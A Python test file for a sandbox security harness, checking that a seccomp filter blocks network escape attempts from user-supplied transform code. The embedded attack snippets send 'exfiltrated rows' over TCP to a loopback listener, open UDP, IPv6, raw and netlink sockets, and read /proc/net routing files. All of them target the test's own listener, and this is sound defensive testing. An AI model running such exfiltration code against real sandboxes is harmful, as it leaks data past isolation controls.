"""Network attacks. Every address used is on 127.0.0.0/8 (the test's own listener)."""

from __future__ import annotations

from security_harness import Attack, Listener, table_of


def test_connect_to_a_listener_on_the_host_loopback(attack: Attack, listener: Listener) -> None:
    code = f"""
import socket
def transform(inputs):
    s = socket.create_connection(("127.0.0.1", {listener.port}), timeout=2)
    s.sendall(b"exfiltrated rows")
    return inputs["data"]
"""
    verdict = attack.python(code)
    assert verdict.reason == "error" and not verdict.ok
    assert "PermissionError" in verdict.message  # the seccomp filter refuses inet sockets outright
    assert listener.connections == 0 and listener.received == b""


def test_udp_and_raw_sockets_are_refused(attack: Attack, listener: Listener) -> None:
    code = f"""
import socket, pyarrow as pa
def transform(inputs):
    results = {{}}
    for name, family, kind in [("udp", socket.AF_INET, socket.SOCK_DGRAM),
                               ("tcp6", socket.AF_INET6, socket.SOCK_STREAM),
                               ("packet", socket.AF_PACKET, socket.SOCK_RAW),
                               ("netlink", socket.AF_NETLINK, socket.SOCK_RAW)]:
        try:
            s = socket.socket(family, kind)
            if name == "udp":
                s.sendto(b"x", ("127.0.0.1", {listener.port}))
            results[name] = "opened"
        except OSError as exc:
            results[name] = type(exc).__name__
    return pa.table({{"kind": list(results), "result": list(results.values())}})
"""
    seen = dict(zip(*table_of(attack.python(code)).values(), strict=True))
    assert seen == {"udp": "PermissionError", "tcp6": "PermissionError", "packet": "PermissionError",
                    "netlink": "PermissionError"}  # fmt: skip
    assert listener.received == b""


def test_interfaces_and_routes_seen_from_inside(attack: Attack) -> None:
    code = """
import pyarrow as pa
def transform(inputs):
    interfaces = [line.split(":")[0].strip() for line in open("/proc/net/dev").read().splitlines()[2:]]
    routes = open("/proc/net/route").read().splitlines()[1:]
    routes6 = [l for l in open("/proc/net/ipv6_route").read().splitlines() if not l.endswith(" lo")]
    return pa.table({"what": ["interfaces", "routes", "routes6"],
                     "value": [",".join(interfaces), str(len(routes)), str(len(routes6))]})
"""
    seen = dict(zip(*table_of(attack.python(code)).values(), strict=True))
    assert seen["interfaces"] == "lo"  # an isolated loopback only: no host interface
    assert seen["routes"] == "0" and seen["routes6"] == "0"  # no route anywhere
